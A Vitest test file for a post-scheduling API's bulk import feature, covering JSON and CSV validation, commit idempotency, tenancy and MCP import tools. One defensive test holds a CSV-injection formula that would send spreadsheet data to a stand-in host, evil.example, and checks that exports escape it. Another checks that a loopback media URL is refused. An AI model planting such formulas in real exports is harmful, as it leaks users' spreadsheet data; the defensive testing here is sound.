// Bulk import over HTTP: JSON and CSV uploads validated row by row as the dry run validates a post
// (nothing created), every kind of bad row, the CSV edge cases a spreadsheet writes, the 1,000-row cap,
// the problems download, tenancy (another tenant's or the other mode's import is a 404), and commit:
// once under a race, finished without duplicates after a crash, queued rows in row order, rows that
// became invalid since the upload reported. Also the MCP tool `import_posts`.
import { env } from "cloudflare:workers";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { createDb } from "../../src/db/client";
import { commitImport } from "../../src/imports/commit";
import { purgeImports } from "../../src/imports/queries";
import { importGuard } from "../../src/lib/url-guard";
import { mediaLimits } from "../../src/media/config";
import { admin, call, serverTiming } from "../support/client";
import { expectDocumented } from "../support/contract";
import { insertMedia } from "../support/db";
import { ALL_ABILITIES, createTenant, inMinutes } from "../support/seed";

type Tenant = Awaited<ReturnType<typeof createTenant>>;

const upload = (t: Tenant, posts: unknown[], extra: Record<string, unknown> = {}) =>
  call("POST", "/api/v1/imports", { key: t.key, body: { workspace_id: t.workspace.id, posts, ...extra } });
const uploadCsv = (t: Tenant, csv: string, workspaceId: number = t.workspace.id) =>
  call("POST", `/api/v1/imports?workspace_id=${workspaceId}`, {
    key: t.key,
    rawBody: csv,
    headers: { "content-type": "text/csv; charset=utf-8" },
  });
const commit = (t: Tenant, id: string) => call("POST", `/api/v1/imports/${id}/commit`, { key: t.key });
const postCount = async (t: Tenant) =>
  (await env.DB.prepare("SELECT count(*) AS n FROM posts WHERE workspace_id = ?")
    .bind(t.workspace.id)
    .first<{ n: number }>())!.n;
const textOf = async (t: Tenant, postId: number) =>
  (
    (await call("GET", `/api/v1/posts/${postId}`, { key: t.key })).body.content as Array<{ text: string }>
  ).map((item) => item.text);

/** The problems of each row, as `field code` pairs. */
const problemsOf = (body: { rows: Array<{ problems: Array<{ field: string; code: string }> }> }) =>
  body.rows.map((r) => r.problems.map((p) => `${p.field} ${p.code}`));

let t: Tenant;
let other: Tenant;
beforeAll(async () => {
  [t, other] = await Promise.all([createTenant(), createTenant()]);
});

describe("POST /api/v1/imports (JSON)", () => {
  it("validates every row, creates nothing, and reads back the same", async () => {
    const [twitter, linkedin] = t.accounts.map((a) => a.id);
    const res = await upload(t, [
      { accounts: [twitter], content: [{ text: "One" }] },
      { accounts: [twitter, linkedin], content: [{ text: "Two" }], scheduled_at: inMinutes(60) },
    ]);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expectDocumented("POST", "/api/v1/imports", res);
    expect(res.body).toMatchObject({ status: "validated", total: 2, valid: 2, invalid: 0, created: [] });
    expect(res.body.id).toMatch(/^imp_[0-9a-f]{32}$/);
    expect(res.body.rows).toEqual([
      { row: 1, valid: true, problems: [] },
      { row: 2, valid: true, problems: [] },
    ]);
    const before = await postCount(t);
    const got = await call("GET", `/api/v1/imports/${res.body.id}`, { key: t.key });
    expect(got.status).toBe(200);
    expectDocumented("GET", "/api/v1/imports/{id}", got);
    expect(got.body).toEqual(res.body);
    expect(await postCount(t)).toBe(before);
  });

  it("reports every kind of bad row by row, field and code", async () => {
    const [twitter] = t.accounts.map((a) => a.id);
    const foreignMedia = await insertMedia(other.workspace.id);
    const foreignLabel = (
      await call("POST", "/api/v1/labels", {
        key: other.key,
        body: { workspace_id: other.workspace.id, name: "theirs", color: "#ff0000" },
      })
    ).body.id;
    const ok = { accounts: [twitter], content: [{ text: "fine" }] };
    const res = await upload(t, [
      { ...ok, accounts: [999_999_999] },
      { ...ok, accounts: [other.accounts[0]!.id] },
      { ...ok, content: [{ text: "x", media: [foreignMedia] }] },
      { ...ok, labels: [foreignLabel] },
      { ...ok, scheduled_at: "next tuesday" },
      { ...ok, scheduled_at: "2020-01-01T00:00:00Z" },
      { ...ok, scheduled_at: inMinutes(60), queue: true },
      { ...ok, content: [{ text: "x".repeat(281) }] },
      { ...ok, publishNow: true },
      {},
      "not a post",
      {
        ...ok,
        content: [{ text: "x", media: ["http://127.0.0.1/a.jpg", "https://cdn.example.test/b.jpg"] }],
      },
      ok,
    ]);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ total: 13, valid: 1, invalid: 12 });
    const problems = problemsOf(res.body);
    expect(problems[0]).toEqual(["accounts.0 not_found"]);
    expect(problems[1]).toEqual(["accounts.0 not_found"]);
    expect(problems[2]).toEqual(["content.0.media.0 not_found"]);
    expect(problems[3]).toEqual(["labels.0 not_found"]);
    expect(problems[4]).toEqual(["scheduled_at invalid_date"]);
    expect(problems[5]).toEqual(["scheduled_at invalid_date"]);
    expect(problems[6]).toContain("queue queue");
    expect(problems[7]).toEqual(["content.0.text text_too_long"]);
    expect(problems[8]).toEqual(["publishNow unknown_field"]);
    expect(problems[9]).toEqual(expect.arrayContaining(["accounts required", "content required"]));
    expect(problems[10]).toEqual(["row invalid_type"]);
    // A private address is refused by the media URL import's rule; a public URL passes it (imported at
    // commit: test/imports/media.test.ts).
    expect(problems[11]).toEqual(["content.0.media.0 media_url_refused"]);
    expect(problems[12]).toEqual([]);
    for (const row of res.body.rows) for (const p of row.problems) expect(p.message).toBeTruthy();
  });

  it("refuses more than 1,000 rows, naming the limit, and an unknown top-level field", async () => {
    const many = Array.from({ length: 1001 }, () => ({}));
    const res = await upload(t, many);
    expect(res.status).toBe(422);
    expect(res.body.errors.posts[0]).toContain("1000");
    const none = await call("POST", "/api/v1/imports", { key: t.key });
    expect(none.status).toBe(422);
    expect(Object.keys(none.body.errors).sort()).toEqual(["posts", "workspace_id"]);
    const typo = await upload(t, [{}], { comit: true });
    expect(typo.status).toBe(422);
    expect(Object.keys(typo.body.errors)).toEqual(["comit"]);
  });

  it("answers a retried upload with the same Idempotency-Key with the first import", async () => {
    const u = await createTenant();
    const body = {
      workspace_id: u.workspace.id,
      posts: [{ accounts: [u.accounts[0]!.id], content: [{ text: "once" }] }],
      commit: true,
    };
    const send = () =>
      call("POST", "/api/v1/imports", { key: u.key, body, headers: { "idempotency-key": "import-1" } });
    const first = await send();
    const second = await send();
    expect(first.status).toBe(201);
    expect(second.body).toEqual(first.body);
    expect(await postCount(u)).toBe(1);
  });

  it("is a 404 for a workspace of another tenant", async () => {
    const res = await call("POST", "/api/v1/imports", {
      key: t.key,
      body: { workspace_id: other.workspace.id, posts: [{}] },
    });
    expect(res.status).toBe(404);
  });
});

describe("POST /api/v1/imports (CSV)", () => {
  it("reads quoted commas, doubled quotes, line breaks in quotes, CRLF, a BOM and a trailing newline", async () => {
    const u = await createTenant();
    const [a, b] = u.accounts.map((x) => x.id);
    const csv = `\uFEFFaccounts,text,scheduled_at,queue\r\n${a},"Hello, world",,\r\n${a};${b},"She said ""hi""",${inMinutes(90)},\r\n${a},"line one\r\nline two",,false\r\n\r\n`;
    const res = await uploadCsv(u, csv);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ total: 3, valid: 3, invalid: 0 });
    const done = await commit(u, res.body.id);
    expect(done.status, JSON.stringify(done.body)).toBe(200);
    const ids = done.body.created.map((c: { post_id: number }) => c.post_id);
    expect(await Promise.all(ids.map((id: number) => textOf(u, id)))).toEqual([
      ["Hello, world"],
      ['She said "hi"'],
      ["line one\r\nline two"],
    ]);
  });

  it("names a ragged row, refuses an unknown column by name, and names the columns in problems", async () => {
    const [a] = t.accounts.map((x) => x.id);
    const res = await uploadCsv(t, `accounts,text\n${a},ok\n${a},too,many\n${a}\n999999999,x\n,\n`);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(problemsOf(res.body)).toEqual([
      [],
      ["row ragged_row"],
      ["row ragged_row"],
      ["accounts not_found"],
      expect.arrayContaining(["accounts required"]),
    ]);
    const unknown = await uploadCsv(t, `accounts,txt\n${a},x\n`);
    expect(unknown.status).toBe(422);
    expect(Object.keys(unknown.body.errors)).toEqual(["txt"]);
    const tooLong = await uploadCsv(t, `accounts,text\n${a},${"x".repeat(281)}\n`);
    expect(problemsOf(tooLong.body)).toEqual([["text text_too_long"]]);
  });

  it("refuses more than 1,000 rows and a CSV without its workspace", async () => {
    const csv = `text\n${"x\n".repeat(1001)}`;
    const res = await uploadCsv(t, csv);
    expect(res.status).toBe(422);
    expect(res.body.errors.posts[0]).toContain("1000");
    const bare = await call("POST", "/api/v1/imports", {
      key: t.key,
      rawBody: "text\nx\n",
      headers: { "content-type": "text/csv" },
    });
    expect(bare.status).toBe(422);
    expect(Object.keys(bare.body.errors)).toEqual(["workspace_id"]);
  });

  it("downloads the rows with their problems as CSV, to fix and upload again", async () => {
    const [a] = t.accounts.map((x) => x.id);
    const res = await uploadCsv(t, `accounts,text,labels\n${a},"fine, really",\n999999999,bad,\n`);
    for (const path of [`/api/v1/imports/${res.body.id}/problems.csv`, `/api/v1/imports/${res.body.id}`]) {
      const got = await call("GET", path, { key: t.key, headers: { accept: "text/csv" } });
      expect(got.status).toBe(200);
      expect(got.headers.get("content-type")).toContain("text/csv");
      const parsed = Papa.parse<Record<string, string>>(got.body, { header: true, skipEmptyLines: true });
      expect(parsed.meta.fields).toEqual([
        "row",
        "accounts",
        "text",
        "scheduled_at",
        "media",
        "labels",
        "queue",
        "problems",
      ]);
      expect(parsed.data.map((r) => [r.row, r.accounts, r.text])).toEqual([
        ["1", String(a), "fine, really"],
        ["2", "999999999", "bad"],
      ]);
      expect(parsed.data[0]!.problems).toBe("");
      expect(parsed.data[1]!.problems).toMatch(/^accounts: /);
    }
    // The download, fixed, uploads as it is: its `row` and `problems` columns are ignored.
    const download = (await call("GET", `/api/v1/imports/${res.body.id}/problems.csv`, { key: t.key })).body;
    const again = await uploadCsv(t, download.replace("999999999", String(a)));
    expect(again.status, JSON.stringify(again.body)).toBe(201);
    expect(again.body).toMatchObject({ total: 2, valid: 2 });
  });

  it("writes no cell a spreadsheet would run as a formula, and reads its own escape back", async () => {
    const a = t.accounts[0]!.id;
    const texts = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1 555 0100", "-- dashes", "@here"];
    const res = await upload(
      t,
      texts.map((text) => ({ accounts: [a], content: [{ text }] })),
    );
    expect(res.status).toBe(201);
    const download = (await call("GET", `/api/v1/imports/${res.body.id}/problems.csv`, { key: t.key })).body;
    const cells = Papa.parse<Record<string, string>>(download, { header: true }).data.map((r) => r.text);
    // OWASP's CSV injection defence: a leading = + - @ is preceded by an apostrophe.
    expect(cells).toEqual(texts.map((text) => `'${text}`));
    // Uploaded again as it is, the rows read the texts that were imported, not the apostrophes.
    const again = await uploadCsv(t, download);
    expect(again.status, JSON.stringify(again.body)).toBe(201);
    const stored = await env.DB.prepare("SELECT rows FROM imports WHERE id = ?")
      .bind(again.body.id)
      .first<{ rows: string }>();
    const inputs = (JSON.parse(stored!.rows) as Array<{ input: { content: Array<{ text: string }> } }>).map(
      (row) => row.input.content[0]!.text,
    );
    expect(inputs).toEqual(texts);
  });
});

describe("POST /api/v1/imports/{id}/commit", () => {
  it("creates the valid rows once, in row order; a second commit answers the same", async () => {
    const u = await createTenant();
    const [a] = u.accounts.map((x) => x.id);
    const res = await upload(u, [
      { accounts: [a], content: [{ text: "first" }] },
      { accounts: [999_999_999], content: [{ text: "bad" }] },
      { accounts: [a], content: [{ text: "third" }], scheduled_at: inMinutes(30) },
    ]);
    const done = await commit(u, res.body.id);
    expect(done.status, JSON.stringify(done.body)).toBe(200);
    expectDocumented("POST", "/api/v1/imports/{id}/commit", done);
    expect(done.body.status).toBe("committed");
    expect(done.body.created.map((c: { row: number }) => c.row)).toEqual([1, 3]);
    const [first, third] = done.body.created.map((c: { post_id: number }) => c.post_id);
    expect(first).toBeLessThan(third);
    expect(await textOf(u, third)).toEqual(["third"]);
    expect(await postCount(u)).toBe(2);
    const again = await commit(u, res.body.id);
    expect(again.body).toEqual(done.body);
    expect(await postCount(u)).toBe(2);
    const got = await call("GET", `/api/v1/imports/${res.body.id}`, { key: u.key });
    expect(got.body).toMatchObject({ status: "committed", created: done.body.created });
  });

  it("creates the posts exactly once when two commits race", async () => {
    const u = await createTenant();
    const [a] = u.accounts.map((x) => x.id);
    const rows = Array.from({ length: 5 }, (_, i) => ({ accounts: [a], content: [{ text: `race ${i}` }] }));
    const res = await upload(u, rows);
    const [one, two] = await Promise.all([commit(u, res.body.id), commit(u, res.body.id)]);
    expect([one.status, two.status]).toEqual([200, 200]);
    expect(one.body).toEqual(two.body);
    expect(one.body.created).toHaveLength(5);
    expect(await postCount(u)).toBe(5);
  });

  it("finishes a commit whose worker stopped midway, without creating a row twice", async () => {
    const u = await createTenant();
    const [a] = u.accounts.map((x) => x.id);
    const res = await upload(u, [
      { accounts: [a], content: [{ text: "made before the crash" }] },
      { accounts: [a], content: [{ text: "left over" }] },
    ]);
    // The dead worker's state: row 1 created and recorded, the import still claimed, its lease old.
    const made = await call("POST", "/api/v1/posts", {
      key: u.key,
      body: { workspace_id: u.workspace.id, accounts: [a], content: [{ text: "made before the crash" }] },
    });
    await env.DB.batch([
      env.DB.prepare("UPDATE imports SET status = 'committing', claimed_at = ? WHERE id = ?").bind(
        Date.now() - 5 * 60_000,
        res.body.id,
      ),
      env.DB.prepare("INSERT INTO import_posts (import_id, row, post_id) VALUES (?, 1, ?)").bind(
        res.body.id,
        made.body.id,
      ),
    ]);
    const done = await commit(u, res.body.id);
    expect(done.status, JSON.stringify(done.body)).toBe(200);
    expect(done.body.created[0]).toEqual({ row: 1, post_id: made.body.id });
    expect(done.body.created).toHaveLength(2);
    expect(await postCount(u)).toBe(2);
  });

  it("gives queued rows their slots in row order", async () => {
    const u = await createTenant();
    const [a] = u.accounts.map((x) => x.id);
    const slots = [1, 2, 3, 4, 5, 6, 7].flatMap((day) => [
      { day, time: "09:00" },
      { day, time: "15:00" },
    ]);
    expect((await call("PUT", `/api/v1/accounts/${a}/queue`, { key: u.key, body: { slots } })).status).toBe(
      200,
    );
    const res = await upload(
      u,
      Array.from({ length: 4 }, (_, i) => ({ accounts: [a], content: [{ text: `q${i}` }], queue: true })),
    );
    expect(res.body.valid).toBe(4);
    const done = await commit(u, res.body.id);
    const times = await Promise.all(
      done.body.created.map(
        async (c: { post_id: number }) =>
          (await call("GET", `/api/v1/posts/${c.post_id}`, { key: u.key })).body.scheduled_at as string,
      ),
    );
    const instants = times.map((x) => Date.parse(x));
    expect(new Set(instants).size).toBe(4);
    expect([...instants].sort((x, y) => x - y)).toEqual(instants);
  });

  it("reports a row that became invalid since the upload and creates the others", async () => {
    const u = await createTenant();
    const [a] = u.accounts.map((x) => x.id);
    const label = (
      await call("POST", "/api/v1/labels", {
        key: u.key,
        body: { workspace_id: u.workspace.id, name: "soon gone", color: "#00ff00" },
      })
    ).body.id;
    const res = await upload(u, [
      { accounts: [a], content: [{ text: "keeps" }] },
      { accounts: [a], content: [{ text: "loses its label" }], labels: [label] },
    ]);
    expect(res.body.valid).toBe(2);
    expect((await call("DELETE", `/api/v1/labels/${label}`, { key: u.key })).status).toBe(200);
    const done = await commit(u, res.body.id);
    expect(done.body.created.map((c: { row: number }) => c.row)).toEqual([1]);
    expect(done.body.failed).toEqual([
      { row: 2, problems: [expect.objectContaining({ field: "labels.0", code: "not_found" })] },
    ]);
    const got = await call("GET", `/api/v1/imports/${res.body.id}`, { key: u.key });
    expect(got.body).toMatchObject({ valid: 1, invalid: 1 });
  });

  it("runs the dry run again at commit: a row whose account expired since the upload is not created", async () => {
    const u = await createTenant();
    const [a, b] = u.accounts.map((x) => x.id);
    const res = await upload(u, [
      { accounts: [a], content: [{ text: "goes out" }] },
      { accounts: [b], content: [{ text: "its account expires" }] },
    ]);
    expect(res.body.valid).toBe(2);
    await env.DB.prepare("UPDATE accounts SET expired_at = ? WHERE id = ?").bind(Date.now(), b).run();
    const done = await commit(u, res.body.id);
    expect(done.body.created.map((c: { row: number }) => c.row)).toEqual([1]);
    expect(done.body.failed).toEqual([
      { row: 2, problems: [expect.objectContaining({ field: "accounts.0", code: "account_expired" })] },
    ]);
    expect(await postCount(u)).toBe(1);
  });

  it("commits a large import in chunks, each commit going on where the last stopped", async () => {
    const u = await createTenant();
    const [a] = u.accounts.map((x) => x.id);
    const res = await upload(
      u,
      Array.from({ length: 5 }, (_, i) => ({ accounts: [a], content: [{ text: `chunk ${i}` }] })),
    );
    const db = createDb(env.DB);
    const tenant = { userId: u.user.id, mode: "live" as const };
    const ctx = {
      env,
      origin: "https://api.example.test",
      queue: env.PUBLISH_QUEUE,
      rows: { configured: () => true, allow: new Set<string>() },
      media: { queue: env.MEDIA_IMPORT_QUEUE, guard: importGuard(env), limits: mediaLimits(env) },
    };
    const first = await commitImport(db, tenant, res.body.id, ctx, 2);
    expect(first).toMatchObject({ status: "committing", remaining: 3 });
    expect(first.created.map((c) => c.row)).toEqual([1, 2]);
    const got = await call("GET", `/api/v1/imports/${res.body.id}`, { key: u.key });
    expect(got.body.status).toBe("committing");
    const second = await commitImport(db, tenant, res.body.id, ctx, 2);
    expect(second).toMatchObject({ status: "committing", remaining: 1 });
    const last = await commit(u, res.body.id);
    expect(last.body).toMatchObject({ status: "committed", remaining: 0 });
    expect(last.body.created.map((c: { row: number }) => c.row)).toEqual([1, 2, 3, 4, 5]);
    expect(await postCount(u)).toBe(5);
  });

  it("commits in the upload with commit: true", async () => {
    const u = await createTenant();
    const res = await upload(u, [{ accounts: [u.accounts[0]!.id], content: [{ text: "at once" }] }], {
      commit: true,
    });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ status: "committed", created: [{ row: 1 }] });
  });
});

describe("tenancy", () => {
  it("answers 404 for another tenant's import and for the other mode's", async () => {
    const res = await upload(t, [{ accounts: [t.accounts[0]!.id], content: [{ text: "mine" }] }]);
    const id = res.body.id;
    const testKey = (
      await admin<{ key: string }>("POST", "/api-keys", {
        user_id: t.user.id,
        abilities: ALL_ABILITIES,
        mode: "test",
      })
    ).body.key;
    for (const key of [other.key, testKey]) {
      for (const [method, path] of [
        ["GET", `/api/v1/imports/${id}`],
        ["GET", `/api/v1/imports/${id}/problems.csv`],
        ["POST", `/api/v1/imports/${id}/commit`],
      ] as const) {
        const got = await call(method, path, { key });
        expect(got.status, `${method} ${path}`).toBe(404);
        expect(got.body).toEqual({ message: "Import not found." });
      }
    }
    expect((await call("GET", "/api/v1/imports/imp_nope", { key: t.key })).status).toBe(404);
    // Nothing was committed by the refused calls.
    expect((await call("GET", `/api/v1/imports/${id}`, { key: t.key })).body.status).toBe("validated");
  });
});

describe("retention", () => {
  it("deletes imports older than 30 days, and keeps the posts they created", async () => {
    const u = await createTenant();
    const res = await upload(u, [{ accounts: [u.accounts[0]!.id], content: [{ text: "kept" }] }], {
      commit: true,
    });
    const fresh = await upload(u, [{ accounts: [u.accounts[0]!.id], content: [{ text: "young" }] }]);
    await env.DB.prepare("UPDATE imports SET created_at = ? WHERE id = ?")
      .bind(Date.now() - 31 * 24 * 3600_000, res.body.id)
      .run();
    await purgeImports(createDb(env.DB), new Date());
    expect((await call("GET", `/api/v1/imports/${res.body.id}`, { key: u.key })).status).toBe(404);
    expect((await call("GET", `/api/v1/imports/${fresh.body.id}`, { key: u.key })).status).toBe(200);
    expect(await postCount(u)).toBe(1);
  });
});

describe("MCP import_posts and commit_import", () => {
  type ToolResult = { isError?: boolean; content: { text: string }[] };
  const rpc = async (u: Tenant, method: string, params?: Record<string, unknown>) =>
    (
      await call("POST", "/mcp", {
        key: u.key,
        headers: { accept: "application/json, text/event-stream", "mcp-protocol-version": "2025-06-18" },
        body: { jsonrpc: "2.0", id: 1, method, params },
      })
    ).body as { result: unknown };
  const tool = async (u: Tenant, name: string, args: Record<string, unknown>) =>
    (await rpc(u, "tools/call", { name, arguments: args })).result as ToolResult;

  it("validates, refuses unknown arguments, commits with commit: true or commit_import, once", async () => {
    const u = await createTenant();
    const posts = [{ accounts: [u.accounts[0]!.id], content: [{ text: "from an agent" }] }];
    const refused = await tool(u, "import_posts", { workspace_id: u.workspace.id, posts, comit: true });
    expect(refused.isError).toBe(true);
    expect(refused.content[0]!.text).toContain("comit");
    const result = await tool(u, "import_posts", { workspace_id: u.workspace.id, posts, commit: true });
    expect(result.isError).toBeFalsy();
    expect(JSON.parse(result.content[0]!.text)).toMatchObject({ status: "committed", valid: 1 });
    expect(await postCount(u)).toBe(1);
    // An import validated without commit is committed by commit_import, once.
    const later = await tool(u, "import_posts", { workspace_id: u.workspace.id, posts });
    const { id } = JSON.parse(later.content[0]!.text);
    for (let i = 0; i < 2; i++) {
      const done = await tool(u, "commit_import", { id });
      expect(done.isError, done.content[0]!.text).toBeFalsy();
      expect(JSON.parse(done.content[0]!.text)).toMatchObject({ status: "committed", created: [{ row: 1 }] });
    }
    expect(await postCount(u)).toBe(2);
    // Its id is the import's string id in the tool's schema.
    const { tools } = (await rpc(u, "tools/list")).result as {
      tools: Array<{ name: string; inputSchema: { properties: Record<string, { type: string }> } }>;
    };
    expect(tools.find((t) => t.name === "commit_import")!.inputSchema.properties.id!.type).toBe("string");
  });
});

describe("1,000 rows", () => {
  it("validates a 1,000-row upload in one request", async () => {
    const u = await createTenant();
    const row = { accounts: [u.accounts[0]!.id], content: [{ text: "bulk" }] };
    const started = performance.now();
    const res = await upload(
      u,
      Array.from({ length: 1000 }, () => row),
    );
    const ms = performance.now() - started;
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ total: 1000, valid: 1000 });
    expect(ms).toBeLessThan(5_000);
    // The rows share create's read: a few round trips (auth, the shared read, the insert), not a thousand.
    expect(serverTiming(res.headers).dbTrips).toBeLessThanOrEqual(4);
  });
});
